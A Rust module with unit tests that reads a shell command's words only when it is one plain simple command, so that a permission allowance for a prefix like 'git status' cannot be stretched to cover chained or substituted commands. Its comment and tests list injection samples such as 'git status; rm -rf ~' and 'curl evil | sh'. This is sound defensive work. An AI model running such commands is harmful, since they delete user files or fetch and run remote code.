//! The words of a shell command, read only when the command is one simple
//! command of plain words.
//!
//! An allowance for `git status` must not cover `git status; rm -rf ~`,
//! `git status && curl evil | sh` or `git status $(rm -rf ~)`. Rather than
//! parse every form of the shell language and judge what each does, this
//! reader accepts only the one form whose meaning is plain: words
//! separated by blanks, each made of ordinary characters, backslash
//! escapes, single-quoted text and double-quoted text without expansions.
//! A command that uses anything else (an operator, a redirection, a
//! substitution, a variable, a comment, a second line, an unclosed quote,
//! a reserved word or an assignment first) has no words here, and so no
//! prefix covers it: it is asked about as if no allowance existed. Failing
//! closed is the point; a person can still allow such a command once.
//!
//! What bash may still expand in a word it runs (a glob's `*`, `?` or
//! `[`, a brace's `{`, a tilde) cannot add a command, only change the
//! words one command gets. Such a word is read, but marked as not literal
//! ([`Word::literal`]): it never matches a word of a prefix, so a prefix
//! matches only words bash passes exactly as written. The words after the
//! prefix may be anything.

/// One word of a simple command: its text once quotes and escapes are
/// read, and whether bash passes it as that text.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Word {
    pub(crate) text: String,
    /// False when an unquoted character of the word (`*`, `?`, `[`, `{`,
    /// `~`) lets bash expand it into other text or other words.
    pub(crate) literal: bool,
}

/// What bash reads as a reserved word in a command's first place: a
/// compound command or a pipeline's prefix, never a plain command.
const RESERVED: &[&str] = &[
    "!", "[[", "]]", "{", "}", "case", "coproc", "do", "done", "elif", "else", "esac", "fi", "for",
    "function", "if", "in", "select", "then", "time", "until", "while",
];

/// The words of `command` when it is one simple command of plain words;
/// `None` for anything else, and for a command of no words.
pub(crate) fn simple_command_words(command: &str) -> Option<Vec<Word>> {
    let mut words: Vec<Word> = Vec::new();
    let mut word: Option<Word> = None;
    let mut chars = command.chars();
    while let Some(c) = chars.next() {
        match c {
            ' ' | '\t' => {
                if let Some(done) = word.take() {
                    words.push(done);
                }
            }
            // A comment may only start a word; inside one, `#` is literal.
            '#' if word.is_none() => return None,
            // Control and redirection operators, subshells, substitutions,
            // expansions and line ends: each can run or change more than
            // one plain command. A NUL cannot reach a command at all.
            '\n' | '\r' | ';' | '&' | '|' | '<' | '>' | '(' | ')' | '`' | '$' | '\0' => {
                return None;
            }
            '\\' => match chars.next() {
                // A line continuation, or nothing to escape.
                None | Some('\n' | '\0') => return None,
                Some(escaped) => started(&mut word).text.push(escaped),
            },
            '\'' => {
                let text = &mut started(&mut word).text;
                loop {
                    match chars.next() {
                        None | Some('\0') => return None,
                        Some('\'') => break,
                        Some(literal) => text.push(literal),
                    }
                }
            }
            '"' => {
                let text = &mut started(&mut word).text;
                loop {
                    match chars.next() {
                        None | Some('$' | '`' | '\0') => return None,
                        Some('"') => break,
                        // Inside double quotes a backslash escapes only
                        // these; before anything else it is itself.
                        Some('\\') => match chars.next() {
                            None | Some('\n' | '\0') => return None,
                            Some(escaped @ ('"' | '\\' | '$' | '`')) => text.push(escaped),
                            Some(other) => {
                                text.push('\\');
                                text.push(other);
                            }
                        },
                        Some(literal) => text.push(literal),
                    }
                }
            }
            // An unquoted `=` in the first word makes it an assignment
            // (`PATH=. git status` runs another git).
            '=' if words.is_empty() => return None,
            // A word bash may expand: read, but never a prefix's word.
            '*' | '?' | '[' | '{' | '~' => {
                let expanding = started(&mut word);
                expanding.text.push(c);
                expanding.literal = false;
            }
            other => started(&mut word).text.push(other),
        }
    }
    if let Some(done) = word {
        words.push(done);
    }
    let first = words.first()?;
    // Reserved words are read as such only unquoted, but a quoted one is
    // refused too: it is never what a person means by a command.
    (!RESERVED.contains(&first.text.as_str()) && !first.text.starts_with('!')).then_some(words)
}

/// The word being read, started if it was not.
fn started(word: &mut Option<Word>) -> &mut Word {
    word.get_or_insert_with(|| Word {
        text: String::new(),
        literal: true,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn texts(command: &str) -> Option<Vec<String>> {
        simple_command_words(command).map(|words| words.into_iter().map(|w| w.text).collect())
    }

    #[test]
    fn plain_words_and_quotes_are_read_as_bash_reads_them() {
        let cases: &[(&str, &[&str])] = &[
            ("git status", &["git", "status"]),
            ("  git\tstatus  ", &["git", "status"]),
            ("'git' \"status\"", &["git", "status"]),
            (
                r#"grep -r "a b" 'c d' e\ f"#,
                &["grep", "-r", "a b", "c d", "e f"],
            ),
            (r#"echo "a\"b" "c\d""#, &["echo", "a\"b", "c\\d"]),
            ("ls a#b c=d", &["ls", "a#b", "c=d"]),
            ("'' x", &["", "x"]),
            (r#"echo "a\$(rm)" "\`""#, &["echo", "a$(rm)", "`"]),
        ];
        for (command, expected) in cases {
            let expected: Vec<String> = expected.iter().map(|w| (*w).to_owned()).collect();
            assert_eq!(texts(command), Some(expected), "{command:?}");
        }
    }

    #[test]
    fn a_word_bash_may_expand_is_read_but_not_literal() {
        let words = simple_command_words("ls *.rs '*' ~/x a{b,c} plain").expect("simple");
        let literal: Vec<bool> = words.iter().map(|w| w.literal).collect();
        assert_eq!(literal, [true, false, true, false, false, true]);
        assert_eq!(words[2].text, "*");
    }

    #[test]
    fn anything_but_one_simple_command_has_no_words() {
        for command in [
            "",
            "   ",
            "git status; rm -rf ~",
            "git status && rm -rf ~",
            "git status || rm -rf ~",
            "git status | sh",
            "git status & rm -rf ~",
            "git status\nrm -rf ~",
            "git status\rrm",
            "git status > out",
            "git status < in",
            "git status $(rm -rf ~)",
            "git status `rm -rf ~`",
            "git status \"$(rm -rf ~)\"",
            "git status \"`rm`\"",
            "git status $HOME",
            "git status ${HOME}",
            "git status $'\\x3b'",
            "(git status)",
            "{ git status; }",
            "! git status",
            "!git status",
            "if git status",
            "time git status",
            "git status # comment",
            "FOO=1 git status",
            "git status 'unclosed",
            "git status \"unclosed",
            "git status \\",
            "git status \\\nrm",
            "git status\0rm",
        ] {
            assert_eq!(texts(command), None, "{command:?}");
        }
    }
}
